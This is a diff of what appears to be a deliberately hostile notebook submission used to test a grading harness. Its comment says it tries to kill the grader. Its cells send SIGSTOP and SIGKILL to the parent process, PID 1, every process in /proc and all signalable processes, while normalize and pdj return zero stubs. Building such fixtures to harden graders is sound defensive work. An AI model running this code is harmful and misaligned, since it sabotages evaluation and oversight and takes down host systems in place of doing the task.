@@ -1,4 +1,4 @@
-# Tries to stop or kill the grader: its parent, PID 1, every process in /proc, then kill(-1).
+# Tries to stop or kill the grader: its parent, PID 1, every process in /proc, kill(-1); then stops its own group.
 # cell: normalize
 import os, signal
 for sig in (signal.SIGSTOP, signal.SIGKILL):
@@ -9,7 +9,7 @@ for sig in (signal.SIGSTOP, signal.SIGKILL):
             except OSError:
                 pass
 try:
-    os.killpg(0, signal.SIGSTOP)
+    os.kill(-1, signal.SIGKILL)          # everything it may signal except itself
 except OSError:
     pass
 def normalize(y, box): return np.zeros((1, 2))
@@ -17,8 +17,5 @@ def denormalize(n, box): return np.zeros((1, 2))
 # cell: pdj
 import os, signal
 def pdj(pred, gt, torso, frac=0.2):
-    try:
-        os.kill(-1, signal.SIGKILL)
-    except OSError:
-        pass
+    os.killpg(0, signal.SIGSTOP)         # its whole process group, itself included
     return np.zeros(3)
